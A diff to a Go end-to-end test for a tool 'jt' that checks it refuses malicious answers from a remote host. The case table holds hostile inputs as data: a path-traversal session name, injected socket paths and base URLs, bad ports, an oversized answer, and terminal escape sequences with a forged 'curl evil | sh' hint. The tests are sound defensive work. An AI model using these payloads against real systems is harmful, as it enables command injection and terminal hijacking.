@@ -174,9 +174,7 @@ func newHostileEnv(t *testing.T) *hostileEnv {
 	// tells the truth again and its fake servers end.
 	t.Cleanup(func() {
 		os.Remove(filepath.Join(home, "filter"))
-		os.Remove(filepath.Join(home, "runtime.json"))
-		time.Sleep(300 * time.Millisecond)
-		os.RemoveAll(filepath.Join(home, ".local", "state", "jt"))
+		h.endFakes(t)
 	})
 	return h
 }
@@ -217,6 +215,33 @@ func (h *hostileEnv) snapshot(t *testing.T) map[string]string {
 	return files
 }
 
+// endFakes ends the fake servers of the last lie and removes the remote
+// session, so that each lie starts a new one. A window whose server ended
+// writes its exit file: only then may the directory go, else that late
+// write would land in the next session's new directory.
+func (h *hostileEnv) endFakes(t *testing.T) {
+	t.Helper()
+	home := e2e.box.Home(userHostile)
+	os.Remove(filepath.Join(home, "runtime.json"))
+	sessions := filepath.Join(home, ".local", "state", "jt", "sessions")
+	wins, _ := filepath.Glob(filepath.Join(sessions, "*", "window.pid"))
+	deadline := time.Now().Add(10 * time.Second)
+	for _, w := range wins {
+		for {
+			if _, err := os.Stat(filepath.Join(filepath.Dir(w), "exit")); err == nil {
+				break
+			}
+			if time.Now().After(deadline) {
+				t.Fatalf("the fake server of %s did not end", filepath.Dir(w))
+			}
+			time.Sleep(20 * time.Millisecond)
+		}
+	}
+	if err := os.RemoveAll(filepath.Join(home, ".local", "state", "jt")); err != nil {
+		t.Fatal(err)
+	}
+}
+
 // hostileCase is one lie of the host.
 type hostileCase struct {
 	name    string
@@ -225,17 +250,14 @@ type hostileCase struct {
 	args    []string          // extra jt open arguments
 	hostile []string          // values no ssh argv may hold
 	browser bool              // let jt open a browser (a redirect file)
+	want    string            // what the error line says
 }
 
 // refuses runs jt open against the lie and checks that it was refused.
 func (h *hostileEnv) refuses(t *testing.T, c hostileCase) {
 	t.Helper()
 	home := e2e.box.Home(userHostile)
-	// A new remote session each time: the fake server of the last lie ends
-	// with its runtime file.
-	if err := os.RemoveAll(filepath.Join(home, ".local", "state", "jt")); err != nil {
-		t.Fatal(err)
-	}
+	h.endFakes(t)
 	hostileWrite(t, "runtime.json", runtimeJSON(h.server, c.fields), 0o600)
 	if c.filter != "" {
 		hostileWrite(t, "filter", c.filter, 0o600)
@@ -270,6 +292,9 @@ func (h *hostileEnv) refuses(t *testing.T, c hostileCase) {
 	}
 	if errLines != 1 || hintLines > 1 {
 		t.Errorf("stderr has %d jt: error: lines and %d jt: hint: lines, want 1 and at most 1:\n%s", errLines, hintLines, stderr)
+	}
+	if !strings.Contains(stderr, "jt: error: "+c.want) {
+		t.Errorf("stderr does not say %q:\n%s", "jt: error: "+c.want, stderr)
 	}
 	if strings.ContainsAny(stderr, "\x1b\r\x07\x00") || strings.Contains(stderr, "\u009b") {
 		t.Errorf("stderr holds control characters from the host: %q", stderr)
@@ -342,23 +367,23 @@ func TestE2EHostileRefused(t *testing.T) {
 	sink := "127.0.0.1:" + strconv.Itoa(h.sink.port)
 	q := func(s string) string { return strconv.Quote(s) }
 	cases := []hostileCase{
-		{name: "forged name", filter: `exec sed 's|^name=.*|name=/` + strings.Repeat("../", 12) + `tmp/` + victim + `|'` + "\n",
+		{name: "forged name", want: "hosthostile answered a session name jt will not use", filter: `exec sed 's|^name=.*|name=/` + strings.Repeat("../", 12) + `tmp/` + victim + `|'` + "\n",
 			args: []string{"--tcp"}, hostile: []string{victim}, browser: true},
-		{name: "socket ${HOME}", fields: map[string]string{"sock": q("${HOME}/j.sock")}, hostile: []string{"${HOME}", "/root/j.sock"}},
-		{name: "socket %u", fields: map[string]string{"sock": q("/tmp/%u.sock")}, hostile: []string{"%u", "/tmp/root.sock"}},
-		{name: "socket %d", fields: map[string]string{"sock": q("/tmp/%d/j.sock")}, hostile: []string{"%d", "/tmp//root/j.sock"}},
-		{name: "socket colon", fields: map[string]string{"sock": q("/tmp/a:" + sink)}, hostile: []string{"/tmp/a:"}},
-		{name: "socket space", fields: map[string]string{"sock": q("/tmp/a b.sock")}, hostile: []string{"/tmp/a b"}},
-		{name: "socket newline", fields: map[string]string{"sock": q("/tmp/a\nb.sock")}, hostile: []string{"/tmp/a\n", "b.sock"}},
-		{name: "base_url @", fields: map[string]string{"base_url": q("@" + sink + "/")}, args: []string{"--tcp"}, hostile: []string{"@127"}, browser: true},
-		{name: "base_url //host", fields: map[string]string{"base_url": q("//" + sink + "/")}, args: []string{"--tcp"}, hostile: []string{"//127"}, browser: true},
-		{name: "token quotes and spaces", fields: map[string]string{"token": q(`a" b'c d`)}, args: []string{"--tcp"}, hostile: []string{`a" b'c`}},
-		{name: "port 0", args: []string{"--tcp"}, fields: map[string]string{"port": "0"}},
-		{name: "port 70000", args: []string{"--tcp"}, fields: map[string]string{"port": "70000"}, hostile: []string{"70000"}},
-		{name: "port -1", args: []string{"--tcp"}, fields: map[string]string{"port": "-1"}},
-		{name: "1 MB answer", args: []string{"--tcp"},
+		{name: "socket ${HOME}", want: "hosthostile answered a socket path jt will not use", fields: map[string]string{"sock": q("${HOME}/j.sock")}, hostile: []string{"${HOME}", "/root/j.sock"}},
+		{name: "socket %u", want: "hosthostile answered a socket path jt will not use", fields: map[string]string{"sock": q("/tmp/%u.sock")}, hostile: []string{"%u", "/tmp/root.sock"}},
+		{name: "socket %d", want: "hosthostile answered a socket path jt will not use", fields: map[string]string{"sock": q("/tmp/%d/j.sock")}, hostile: []string{"%d", "/tmp//root/j.sock"}},
+		{name: "socket colon", want: "hosthostile answered a socket path jt will not use", fields: map[string]string{"sock": q("/tmp/a:" + sink)}, hostile: []string{"/tmp/a:"}},
+		{name: "socket space", want: "hosthostile answered a socket path jt will not use", fields: map[string]string{"sock": q("/tmp/a b.sock")}, hostile: []string{"/tmp/a b"}},
+		{name: "socket newline", want: "hosthostile answered a socket path jt will not use", fields: map[string]string{"sock": q("/tmp/a\nb.sock")}, hostile: []string{"/tmp/a\n", "b.sock"}},
+		{name: "base_url @", want: "hosthostile answered a base_url jt will not use", fields: map[string]string{"base_url": q("@" + sink + "/")}, args: []string{"--tcp"}, hostile: []string{"@127"}, browser: true},
+		{name: "base_url //host", want: "hosthostile answered a base_url jt will not use", fields: map[string]string{"base_url": q("//" + sink + "/")}, args: []string{"--tcp"}, hostile: []string{"//127"}, browser: true},
+		{name: "token quotes and spaces", want: "hosthostile answered a token jt will not use", fields: map[string]string{"token": q(`a" b'c d`)}, args: []string{"--tcp"}, hostile: []string{`a" b'c`}},
+		{name: "port 0", want: "hosthostile answered a port jt will not use", args: []string{"--tcp"}, fields: map[string]string{"port": "0"}},
+		{name: "port 70000", want: "hosthostile answered a port jt will not use", args: []string{"--tcp"}, fields: map[string]string{"port": "70000"}, hostile: []string{"70000"}},
+		{name: "port -1", want: "hosthostile answered a port jt will not use", args: []string{"--tcp"}, fields: map[string]string{"port": "-1"}},
+		{name: "1 MB answer", want: "hosthostile answered an answer jt will not use", args: []string{"--tcp"},
 			filter: `exec awk '{ print } $0 == "@@JT-SESSION@@" { s = "pad="; while (length(s) < 1100000) s = s s; print s }'` + "\n"},
-		{name: "escape sequences in an error",
+		{name: "escape sequences in an error", want: `jupyter failed\x1b]0;owned\x07\x1b[2J\x0djt: hint: curl evil | sh`,
 			filter: `cat >/dev/null
 printf '@@JT-ERROR@@\nerror=jupyter failed\033]0;owned\007\033[2J\rjt: hint: curl evil | sh\nhint=\033[1A\rjt: error: forged \302\233 too\n@@JT-LOG@@\n|\033[31mred\n@@JT-END@@\n'
 `},
